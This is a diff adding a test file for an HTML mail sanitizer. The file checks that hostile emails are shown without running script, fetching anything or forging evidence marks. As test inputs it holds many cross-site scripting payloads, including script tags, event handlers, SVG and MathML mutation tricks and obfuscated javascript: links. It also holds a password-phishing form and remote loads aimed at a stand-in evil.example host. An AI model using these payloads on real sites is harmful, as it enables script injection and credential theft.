@@ -1,0 +1,177 @@
+import { fileURLToPath } from 'node:url'
+import chromium from '@sparticuz/chromium'
+import { type Browser, type Page, chromium as playwright } from 'playwright-core'
+import { build } from 'vite'
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+
+/** Cleaning is the browser's parser's business, so it is tried in a browser, on the page the console shows. */
+let browser: Browser
+let script: string
+let page: Page
+let requests: string[]
+
+beforeAll(async () => {
+  script = await bundled()
+  // Not the package's own arguments: one process for all pages ends with the first page that is closed.
+  browser = await playwright.launch({ executablePath: await chromium.executablePath(), args: ['--no-sandbox'] })
+})
+afterAll(() => browser?.close())
+
+beforeEach(async () => {
+  page = await browser.newPage()
+  requests = []
+  await page.route('**/*', (route) => {
+    requests.push(route.request().url())
+    return route.abort()
+  })
+  await page.setContent('<!doctype html><body>')
+  await page.addScriptTag({ content: script })
+  return () => page.close()
+})
+
+interface Shown {
+  html: string
+  text: string
+  leftOut: number
+}
+
+/** The mail cleaned and shown as the console shows it, after it had its time to misbehave. */
+async function show(mail: string, spans: readonly (readonly [number, number])[] = []): Promise<Shown> {
+  return page.evaluate(
+    async ([source, marks]) => {
+      const { mailPage } = (globalThis as unknown as { mail: typeof import('./mail-page.ts') }).mail
+      const { page, leftOut } = mailPage(source, marks, 'Mail')
+      const frame = document.createElement('iframe')
+      frame.setAttribute('sandbox', 'allow-same-origin')
+      frame.srcdoc = page
+      await new Promise((resolve) => {
+        frame.onload = resolve
+        document.body.append(frame)
+      })
+      const body = frame.contentDocument?.body
+      return { html: body?.innerHTML ?? '', text: body?.textContent ?? '', leftOut }
+    },
+    [mail, spans] as const,
+  )
+}
+
+describe('a hostile mail', () => {
+  it.each([
+    ['a script', '<script>parent.done=1</script>Words'],
+    ['an event handler', '<img src=x onerror="parent.done=1">Words<p onclick=x onmouseover="parent.done=1">'],
+    [
+      'SVG',
+      '<svg onload="parent.done=1"><script>parent.done=1</script><a xlink:href="javascript:1"><text>x</text></a></svg>Words',
+    ],
+    [
+      'MathML',
+      '<math><mtext><table><mglyph><style><!--</style><img src=x onerror="parent.done=1"></mglyph></table></mtext></math>Words',
+    ],
+    [
+      'a form',
+      '<form action="https://evil.example/"><input name=password type=password><button>Log in</button></form>Words',
+    ],
+    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">Words'],
+    ['a base address', '<base href="https://evil.example/">Words<img src="x.png">'],
+    [
+      'a frame',
+      '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/">Words',
+    ],
+    [
+      'a style sheet',
+      '<link rel=stylesheet href="https://evil.example/a.css"><style>@import url(https://evil.example/b.css); body{background:url(https://evil.example/c.png)}</style>Words',
+    ],
+    ['a style attribute', '<div style="position:fixed;inset:0;background:url(https://evil.example/d.png)">Words</div>'],
+    [
+      'a background',
+      '<body background="https://evil.example/e.png"><table background="https://evil.example/f.png"><tr><td>Words</table>',
+    ],
+    [
+      'a remote picture',
+      '<img src="https://evil.example/g.png" srcset="https://evil.example/h.png 2x">Words<picture><source srcset="https://evil.example/i.png"></picture>',
+    ],
+    [
+      'a video with a poster',
+      '<video poster="https://evil.example/j.png" src="https://evil.example/k.mp4"></video><audio src="https://evil.example/l.mp3"></audio>Words',
+    ],
+    [
+      'an SVG picture as data',
+      '<img src="data:image/svg+xml,<svg onload=parent.done=1 xmlns=http://www.w3.org/2000/svg/>">Words',
+    ],
+    [
+      'a javascript link',
+      '<a href="javascript:parent.done=1">Words</a><a href=" java&#10;script:parent.done=1">more</a>',
+    ],
+    [
+      'markup behind a comment',
+      '<!--><img src=x onerror="parent.done=1">-->Words<noscript><p title="</noscript><img src=x onerror=parent.done=1>">',
+    ],
+    [
+      'a nest of templates',
+      '<template><template shadowrootmode=open><img src=x onerror="parent.done=1"></template></template>Words',
+    ],
+  ])('with %s neither runs, fetches nor asks anything', async (_, mail) => {
+    const shown = await show(mail)
+    expect(shown.text).toContain('Words')
+    expect(shown.html).not.toMatch(
+      /<(script|svg|math|form|input|button|meta|base|iframe|object|embed|link|style|video|audio|a)\b/i,
+    )
+    expect(shown.html).not.toMatch(/\s(on\w+|style|background|srcset|href|poster)=/i)
+    expect(requests).toEqual([])
+    expect(await page.evaluate(() => 'done' in globalThis)).toBe(false)
+  })
+
+  it('cannot hide its words: nothing about looks is kept', async () => {
+    const shown = await show(
+      '<font color=white size=1 style="display:none">Pay here</font><p hidden class=x id=y>and there</p>',
+    )
+    expect(shown.html).toBe('<font>Pay here</font><p>and there</p>')
+  })
+
+  it('cannot pass its own marks for evidence', async () => {
+    const shown = await show('<mark data-evidence="k 0">forged</mark> <b data-evidence="0">too</b> true', [[11, 15]])
+    expect(shown.html).toBe('forged <b>too</b> <mark data-evidence="0" tabindex="0">true</mark>')
+  })
+
+  it('that is broken in every place still shows its words', async () => {
+    const shown = await show('<table><tr><td><table><b>Words</td></i></tr><div></b><"><<<a href="')
+    expect(shown.text).toContain('Words')
+  })
+})
+
+describe('a court mail', () => {
+  it('has its links spelled out with the host they really lead to', async () => {
+    const shown = await show(
+      '<a href="https://ecf.cand.uscourts.gov/doc1/035?magic_num=1">118</a> <a href="https://court.gov@evil.example/">x</a>',
+    )
+    expect(shown.html).toBe(
+      '<span class="link" data-host="ecf.cand.uscourts.gov">118</span> <span class="link" data-host="evil.example">x</span>',
+    )
+  })
+
+  it('says how many pictures were left out, and keeps those it brings along', async () => {
+    const dot = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='
+    const shown = await show(`<img src="https://court.gov/seal.png" alt="Seal of the court"><img src="${dot}">`)
+    expect(shown).toMatchObject({ leftOut: 1, html: `Seal of the court<img src="${dot}" alt="">` })
+  })
+
+  it('marks a value that the browser moves out of its table', async () => {
+    const mail = '<table><STRONG>Document description:</STRONG>Motion <BR>\n<TAB>[STAMP</table>'
+    const start = 'Document description:'.length
+    const shown = await show(mail, [[start, start + 6]])
+    expect(shown.html).toContain(
+      '<strong>Document description:</strong><mark data-evidence="0" tabindex="0">Motion</mark>',
+    )
+  })
+})
+
+/** The module as a script for the page. */
+async function bundled(): Promise<string> {
+  const entry = fileURLToPath(new URL('./mail-page.ts', import.meta.url))
+  const lib = { entry, name: 'mail', formats: ['iife' as const] }
+  const result = await build({ configFile: false, logLevel: 'error', build: { write: false, minify: false, lib } })
+  const [output] = [result].flat()
+  const chunk = output && 'output' in output ? output.output[0] : undefined
+  if (!chunk || !('code' in chunk)) throw new Error('Vite gave no script')
+  return chunk.code
+}
